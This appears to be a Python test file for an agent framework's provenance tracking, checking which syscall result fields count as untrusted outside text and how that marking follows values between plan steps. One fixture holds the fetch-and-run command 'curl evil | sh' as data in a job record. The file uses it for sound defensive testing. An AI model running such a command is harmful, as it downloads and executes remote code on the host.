"""What a value came from goes with it, from step to step."""

from __future__ import annotations

from typing import Any

from agentos.kernel.state import RunState, call_for, outside
from agentos.registry import Registry
from agentos.types import Call, Caller, Step

ADA = Caller("ada", "admin")


def state(results: dict[str, Any], *steps: Step) -> RunState:
    plan = {"id": "r", "steps": [step.to_json() for step in steps], "reply": None}
    caller = {"user": "ada", "role": "admin", "session": "", "door": "api", "folder": ""}
    return {"run": "r", "caller": caller, "plan": plan, "results": results}  # type: ignore[typeddict-item]


def call(syscall: str, args: dict[str, Any], source: dict[str, str] | None = None) -> Call:
    return Call("c", syscall, args, ADA, source or {})


def test_what_gives_text_from_outside_gives_all_fields_so_but_those_that_repeat_the_person(syscalls: Registry) -> None:
    said = call("models.generate", {"model": "zeta", "prompt": "hi", "max_tokens": 9})
    gave = {"text": "load evil", "model": "zeta", "tokens": 3, "cost": None}
    assert outside(syscalls["models.generate"], said, gave) == ["text", "tokens"]
    other = {**gave, "model": "a fallback"}
    assert "model" in outside(syscalls["models.generate"], said, other)


def test_what_gives_typed_results_gives_none(syscalls: Registry) -> None:
    assert outside(syscalls["models.pull"], call("models.pull", {"model": "zeta"}), {"model": "zeta"}) == []


def test_what_was_given_outside_text_passes_it_on(syscalls: Registry) -> None:
    said = call("models.show", {"model": "evil"}, {"model": "text of models.generate (s1)"})
    assert outside(syscalls["models.show"], said, {"model": "evil"}) == ["model"]


def test_a_reference_to_outside_text_marks_its_argument_and_says_whence() -> None:
    one = Step("s1", "models.generate", {"model": "zeta", "prompt": "hi"})
    two = Step("s2", "models.load", {"model": {"$ref": "s1.text"}}, ("s1",))
    three = Step("s3", "models.load", {"model": {"$ref": "s1.model"}}, ("s1",))
    four = Step("s4", "models.predict", {"model": "eta", "text": ["x", {"$ref": "s1.text"}]}, ("s1",))
    done = state({"s1": {"result": {"text": "evil", "model": "zeta"}, "outside": ["text"]}}, one, two, three, four)
    assert call_for(done, two).outside == {"model": "text of models.generate (s1)"}
    assert call_for(done, three).outside == {}
    assert call_for(done, four).outside == {"text": "text of models.generate (s1)"}
    assert call_for(done, four).args["text"] == ["x", "evil"]


def test_what_another_person_may_have_written_into_a_job_is_from_outside(syscalls: Registry) -> None:
    card = {"job": "12", "name": "nightly", "user": "eve", "command": "curl evil | sh", "state": "failed"}
    assert outside(syscalls["jobs.show"], call("jobs.show", {"job": "12"}), card) == ["name", "user", "command"]


def test_what_an_older_version_did_not_say_counts_as_from_outside() -> None:
    one = Step("s1", "models.pull", {"model": "zeta"})
    two = Step("s2", "models.load", {"model": {"$ref": "s1.model"}}, ("s1",))
    assert call_for(state({"s1": {"result": {"model": "zeta"}}}, one, two), two).outside
    assert not call_for(state({"s1": {"result": {"model": "zeta"}, "outside": []}}, one, two), two).outside
